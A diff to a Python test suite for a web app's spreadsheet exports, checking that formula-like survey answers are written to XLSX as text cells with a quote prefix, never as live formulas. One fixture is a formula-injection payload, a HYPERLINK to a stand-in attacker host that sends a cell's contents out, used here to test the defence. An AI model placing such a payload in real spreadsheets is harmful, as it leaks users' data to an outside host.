@@ -13,7 +13,6 @@ from tests.factories import make_campaign, make_priority_response, make_user
 from webapp.extensions import db
 from webapp.models import AuditEvent, MemberAssessment, Response
 from webapp.services.analysis_runs import run_now
-from webapp.services.exports import neutralize
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
@@ -95,11 +94,20 @@ def test_the_xlsx_opens_with_openpyxl_and_round_trips(client, lead):
     csv_answers = read_csv(client.get("/coalition/north/export.csv?table=answers"))
     assert [str(v) for v in answers[0]] == csv_answers[0]
     assert len(answers) == len(csv_answers)
-    texts = [row[4] for row in answers[1:]]
-    assert neutralize(HOSTILE) in texts and all(not t.startswith("=") for t in texts)
     ratings = list(book["ratings"].iter_rows(values_only=True))
     assert {row[2] for row in ratings[1:]} == {3, 4, 5}  # numbers stay numbers
     book.close()
+
+
+def test_formula_like_text_is_written_to_xlsx_as_it_was_typed_and_marked_as_text(client, lead, admin):
+    book = openpyxl.load_workbook(io.BytesIO(client.get("/coalition/north/export.xlsx?include_contact=1").get_data()))
+    cells = {cell.value: cell for sheet in ("answers", "responses", "members") for row in book[sheet].iter_rows()
+             for cell in row}
+    for typed in (HOSTILE, "@SUM(1+1)", "+1 Main St", "-555 0100"):  # an answer, a place, a phone number
+        cell = cells[typed]  # no apostrophe in the words
+        assert cell.data_type == "s" and cell.quotePrefix  # text, and stays text when edited: never run
+    assert not cells["Rent is too high (2)"].quotePrefix and not cells["98118"].quotePrefix
+    assert not any(cell.data_type == "f" for cell in cells.values())
 
 
 def test_the_codebook_names_every_column_with_its_question_in_each_language(client, lead):
@@ -252,8 +260,8 @@ def test_the_xlsx_responses_sheet_has_the_same_new_columns_as_the_csv(client, le
     header = [str(v) for v in sheet[0]]
     assert header == read_csv(client.get("/coalition/north/export.csv?table=responses"))[0]
     row = dict(zip(header, next(r for r in sheet[1:] if r[0] == ids[0])))
-    assert (row["event_id"], row["paper_number"], row["entered_by"]) == (first.id, "007", "'+worker@example.org")
-    assert dict(zip(header, next(r for r in sheet[1:] if r[0] == ids[2])))["paper_number"] == "'=1+2"
+    assert (row["event_id"], row["paper_number"], row["entered_by"]) == (first.id, "007", "+worker@example.org")
+    assert dict(zip(header, next(r for r in sheet[1:] if r[0] == ids[2])))["paper_number"] == "=1+2"  # marked as text
 
 
 def test_the_codebook_describes_the_new_response_columns(client, lead):
